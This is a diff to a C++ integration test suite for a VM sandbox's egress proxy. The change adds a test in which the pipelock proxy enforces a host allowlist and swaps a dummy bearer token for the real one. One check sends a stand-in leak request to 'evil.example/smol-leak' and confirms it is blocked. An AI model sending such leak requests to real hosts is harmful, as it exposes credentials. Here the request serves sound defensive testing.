@@ -8,6 +8,7 @@
 
 #include <boost/json.hpp>
 #include <csignal>
+#include <optional>
 
 #include "../unit/temp_dir.hpp"
 #include "cli_harness.hpp"
@@ -64,6 +65,20 @@ std::string egress_of(IntegrationHome& home, const std::string& name) {
   return "<no row>";
 }
 
+// The HTTP status of a request with the dummy, sent as the guest sends it: to the
+// gateway, which smolvm relays to host 127.0.0.1:PORT.
+std::string status_through(std::uint16_t egress_port, const fs::path& egress_ca, const std::string& url) {
+  return run({"curl", "-sS", "--max-time", "20", "--noproxy", "", "--proxy",
+              "http://127.0.0.1:" + std::to_string(egress_port), "--cacert", egress_ca.string(), "-o", "/dev/null",
+              "-w", "%{http_code}", "-H", "Authorization: Bearer " + dummy, url})
+      .out;
+}
+
+std::uint16_t egress_port_of(IntegrationHome& home, const std::string& name) {
+  const auto shown = boost::json::parse(home.cli({"config", "show", name}).out);
+  return static_cast<std::uint16_t>(shown.at("egress").at("port").as_int64());
+}
+
 pid_t pid_in(const fs::path& pid_file) {
   const std::string text = read_file(pid_file);
   return text.empty() ? 0 : static_cast<pid_t>(std::stol(text));
@@ -73,21 +88,15 @@ pid_t pid_in(const fs::path& pid_file) {
 
 TEST_CASE("smolmachines egress: a host-side mitmdump is the bottle's only way out",
           "[smolmachines][egress][integration]") {
-  TempDir net;
-  make_certs(net.path());
-  Daemon fake_net({"python3", fake_net_script(), "serve", (net.path() / "server.pem").string(),
-                   (net.path() / "server.key").string(), (net.path() / "ports.json").string(),
-                   (net.path() / "upstream.log").string(), (net.path() / "parent.log").string()},
-                  net.path() / "fake_net.out");
-  REQUIRE(wait_until([&] { return fs::exists(net.path() / "ports.json"); }, 20s));
-  const auto parent = boost::json::parse(read_file(net.path() / "ports.json")).at("parent").as_int64();
-  const fs::path token_file = net.path() / "token";
+  FakeNet net;
+  const auto parent = net.parent_port;
+  const fs::path token_file = net.path("token");
   write_file(token_file, real_token + "\n");
 
   IntegrationHome home;
   use_fake_smolvm(home, "1.9.2");
   home.env()["BOTTLE_EGRESS_UPSTREAM"] = "http://127.0.0.1:" + std::to_string(parent);
-  home.env()["BOTTLE_EGRESS_UPSTREAM_CA"] = (net.path() / "ca.pem").string();
+  home.env()["BOTTLE_EGRESS_UPSTREAM_CA"] = net.path("ca.pem").string();
   const std::string name = unique_bottle_name("it-smolegress");
   write_file(home.path() / "spec.json", spec_json(name, token_file));
   fs::create_directories("/etc/bottle");  // the private tmpfs's mount point
@@ -98,8 +107,7 @@ TEST_CASE("smolmachines egress: a host-side mitmdump is the bottle's only way ou
   REQUIRE(r.ok());
 
   // The stored spec keeps the port picked at create; the VM may reach only the gateway.
-  const auto shown = boost::json::parse(home.cli({"config", "show", name}).out);
-  const auto port = static_cast<std::uint16_t>(shown.at("egress").at("port").as_int64());
+  const auto port = egress_port_of(home, name);
   CHECK(port != 0);
   const std::string fake_log = read_file(home.path() / "fake.log");
   CHECK(contains(fake_log, R"("--net","--net-backend","virtio-net","--allow-cidr","100.96.0.1/32")"));
@@ -120,15 +128,10 @@ TEST_CASE("smolmachines egress: a host-side mitmdump is the bottle's only way ou
   // blocked anywhere else.
   const fs::path egress_ca = find_file(home.path(), "mitmproxy-ca-cert.pem");
   REQUIRE_FALSE(egress_ca.empty());
-  const auto curl = [&](const std::string& url) {
-    return run({"curl", "-sS", "--max-time", "20", "--noproxy", "", "--proxy",
-                "http://127.0.0.1:" + std::to_string(port), "--cacert", egress_ca.string(), "-o", "/dev/null",
-                "-w", "%{http_code}", "-H", "Authorization: Bearer " + dummy, url})
-        .out;
-  };
+  const auto curl = [&](const std::string& url) { return status_through(port, egress_ca, url); };
   CHECK(curl("https://chatgpt.com/smol-swap") == "200");
   CHECK(curl("https://evil.example/smol-leak") == "403");
-  const std::string upstream = read_file(net.path() / "upstream.log");
+  const std::string upstream = read_file(net.path("upstream.log"));
   CHECK(contains(upstream, "\"Bearer " + real_token + "\""));
   CHECK_FALSE(contains(upstream, "/smol-leak"));
   CHECK_FALSE(contains(upstream, dummy));
@@ -183,4 +186,73 @@ TEST_CASE("smolmachines egress: an smolvm that cannot confine the VM gets no bot
       CHECK(find_file(home.path(), "mitmdump.pid").empty());
     }
   }
+}
+
+TEST_CASE("smolmachines egress: with pipelock installed, bottle runs it as egress's parent proxy",
+          "[smolmachines][egress][pipelock][integration]") {
+  FakeNet net;
+  const fs::path token_file = net.path("token");
+  write_file(token_file, real_token + "\n");
+  IntegrationHome home;
+  use_fake_smolvm(home, "1.9.2");
+  fs::create_symlink(test_paths::fake_pipelock, home.path() / "bin" / "pipelock");  // on PATH
+  home.env()["FAKE_PIPELOCK_UPSTREAM"] = "127.0.0.1:" + std::to_string(net.upstream_port);
+  home.env()["FAKE_PIPELOCK_LOG"] = net.path("pipelock.log").string();
+  home.env()["BOTTLE_EGRESS_UPSTREAM_CA"] = net.path("ca.pem").string();
+  const std::string name = unique_bottle_name("it-smolpl");
+  write_file(home.path() / "spec.json", spec_json(name, token_file));
+  fs::create_directories("/etc/bottle");
+
+  auto r = home.run(in_private_etc_bottle({test_paths::bottle_cli, "create", "--spec",
+                                           (home.path() / "spec.json").string()}));
+  INFO(r.err);
+  REQUIRE(r.ok());
+
+  // pipelock runs with the bottle's config, on loopback, supervised.
+  const fs::path pid_file = find_file(home.path(), "pipelock.pid");
+  REQUIRE_FALSE(pid_file.empty());
+  const pid_t pipelock_pid = pid_in(pid_file);
+  CHECK(read_file("/proc/" + std::to_string(pipelock_pid) + "/comm") == "pipelock\n");
+  const fs::path config = pid_file.parent_path() / "pipelock.yaml";
+  CHECK(run({test_paths::fake_pipelock, "check", "--config", config.string()}).ok());
+  const std::string listen = read_file(pid_file.parent_path() / "listen");
+  CHECK(listen.rfind("127.0.0.1:", 0) == 0);
+
+  // egress -> pipelock -> upstream: the allowed, bound host gets the real token;
+  // pipelock refuses a host off the allowlist, so it never reaches upstream.
+  const auto port = egress_port_of(home, name);
+  const fs::path egress_ca = find_file(home.path(), "mitmproxy-ca-cert.pem");
+  CHECK(status_through(port, egress_ca, "https://chatgpt.com/pl-swap") == "200");
+  CHECK(status_through(port, egress_ca, "https://broken.example/pl-off-allowlist") != "200");
+  const std::string pipelock_log = read_file(net.path("pipelock.log"));
+  CHECK(contains(pipelock_log, "CONNECT chatgpt.com:443"));
+  CHECK(contains(pipelock_log, "CONNECT broken.example:443"));
+  const std::string upstream = read_file(net.path("upstream.log"));
+  CHECK(contains(upstream, "\"Bearer " + real_token + "\""));
+  CHECK_FALSE(contains(upstream, "/pl-off-allowlist"));
+  CHECK(read_file(net.path("parent.log")).empty());  // nothing bypassed pipelock
+
+  // stop takes pipelock down too; a pipelock that cannot serve keeps the bottle down.
+  r = home.cli({"stop", name});
+  INFO(r.err);
+  REQUIRE(r.ok());
+  CHECK(wait_until([&] { return ::kill(pipelock_pid, 0) != 0; }, 10s));
+  const std::string upstream_env = home.env()["FAKE_PIPELOCK_UPSTREAM"];
+  home.env().erase("FAKE_PIPELOCK_UPSTREAM");  // the fake's run then exits at once
+  r = home.cli({"start", name});
+  CHECK(r.code == 6);
+  CHECK(contains(r.err, "pipelock for " + name + " did not become healthy"));
+  CHECK(contains(home.cli({"ls", "--json"}).out, "\"state\":\"stopped\""));
+  CHECK_FALSE(port_open(port));  // egress was not started either
+
+  home.env()["FAKE_PIPELOCK_UPSTREAM"] = upstream_env;
+  r = home.run(in_private_etc_bottle({test_paths::bottle_cli, "start", name}));
+  INFO(r.err);
+  REQUIRE(r.ok());
+  CHECK(status_through(port, egress_ca, "https://chatgpt.com/pl-after-restart") == "200");
+  const pid_t restarted = pid_in(pid_file);
+  r = home.cli({"rm", "--force", name});
+  INFO(r.err);
+  REQUIRE(r.ok());
+  CHECK(wait_until([&] { return ::kill(restarted, 0) != 0 && !port_open(port); }, 10s));
 }
